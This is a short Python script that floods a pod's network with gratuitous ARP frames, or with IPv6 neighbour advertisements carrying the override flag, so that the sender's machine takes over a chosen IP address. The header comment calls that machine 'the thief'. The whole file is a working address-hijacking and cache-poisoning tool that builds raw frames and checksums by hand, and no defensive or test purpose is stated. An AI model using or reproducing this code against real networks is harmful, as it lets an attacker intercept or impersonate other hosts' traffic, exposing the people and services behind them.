# Tells everybody on the pod's network, for some seconds, that an address is here: by ARP, or by neighbour advertisements that
# override what was known (RFC 4861) where it is an IPv6 address. Whoever asks is answered by the thief's kernel, which has it.
#
# Arguments: the address, the seconds.
import socket
import struct
import sys
import time

address, seconds = sys.argv[1], float(sys.argv[2])
V6 = ":" in address
family, kind = (socket.AF_INET6, 0x86DD) if V6 else (socket.AF_INET, 0x0806)
claimed = socket.inet_pton(family, address)
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(kind))
wire.bind(("eth0", 0))
mac = wire.getsockname()[4]


def answers():
    """Gratuitous ARP, as a request and as a reply."""
    everybody = b"\xff" * 6
    for operation, target in ((1, b"\0" * 6), (2, everybody)):
        body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac + claimed + target + claimed
        yield everybody + mac + b"\x08\x06" + body


def advertisement():
    """An unsolicited advertisement with the override flag, to all nodes."""
    everybody = socket.inet_pton(family, "ff02::1")
    body = struct.pack("!BBHI", 136, 0, 0, 0x2000_0000) + claimed + b"\x02\x01" + mac
    total = sum(struct.unpack("!34H", claimed + everybody + struct.pack("!HH", 58, len(body)) + body))
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    body = body[:2] + struct.pack("!H", ~total & 0xFFFF) + body[4:]
    header = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + claimed + everybody
    yield b"\x33\x33\0\0\0\x01" + mac + b"\x86\xdd" + header + body


frames = list(advertisement() if V6 else answers())
end = time.monotonic() + seconds
while time.monotonic() < end:
    for frame in frames:
        wire.send(frame)
    time.sleep(0.02)
